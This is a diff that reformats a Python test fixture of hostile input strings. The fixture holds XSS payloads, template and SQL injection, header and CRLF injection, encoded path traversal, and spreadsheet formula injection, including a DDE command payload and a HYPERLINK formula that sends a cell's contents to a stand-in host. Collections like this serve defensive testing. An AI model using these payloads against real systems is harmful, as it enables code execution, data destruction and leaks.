@@ -7,21 +7,34 @@ from pathlib import Path
 
 SHARED = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "04_hostile_strings"
 #: Found in a page as it stands, this is a tag that came through unescaped.
-TAGS = ("<script>hostile", "<svg/onload=hostile", "<img src=x onerror=hostile", "<details open ontoggle=hostile")
+TAGS = (
+    "<script>hostile",
+    "<svg/onload=hostile",
+    "<img src=x onerror=hostile",
+    "<details open ontoggle=hostile",
+)
 MARKUP = [
     "<script>hostile()</script>",
-    "\"><script>hostile()</script>",
+    '"><script>hostile()</script>',
     "'><img src=x onerror=hostile()>",
     "<svg/onload=hostile()>",
     "</textarea></title></style><details open ontoggle=hostile()>",
-    "\" autofocus onfocus=hostile() x=\"",
+    '" autofocus onfocus=hostile() x="',
     "javascript:hostile()",
     "&lt;script&gt;hostile()&lt;/script&gt;",
     "--><script>hostile()</script>",
     "{{7*7}} {%debug%} ${7*7} #{7*7} <%= 7*7 %>",
     "%(name)s %s %n {0} {name.__class__}",
 ]
-FORMULAS = ["=1+1", "+49", "-2+3", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1)']
+FORMULAS = [
+    "=1+1",
+    "+49",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example?"&A1)',
+]
 WORDS = [
     "'; DROP TABLE leads_lead; --",
     "a\r\nBcc: all@kunde.example",
@@ -54,7 +67,17 @@ def share(number: int) -> list[str]:
 
 
 #: Half characters and bytes that are no text, as only the wire carries them: percent-encoded.
-ENCODED = ["%ED%A0%80", "%00", "%FF%FE", "%C0%AF", "%F4%90%80%80", "%u0041", "%", "%2e%2e%2f", "%0d%0aSet-Cookie:x=1"]
+ENCODED = [
+    "%ED%A0%80",
+    "%00",
+    "%FF%FE",
+    "%C0%AF",
+    "%F4%90%80%80",
+    "%u0041",
+    "%",
+    "%2e%2e%2f",
+    "%0d%0aSet-Cookie:x=1",
+]
 
 
 def naughty_strings() -> list[str]:
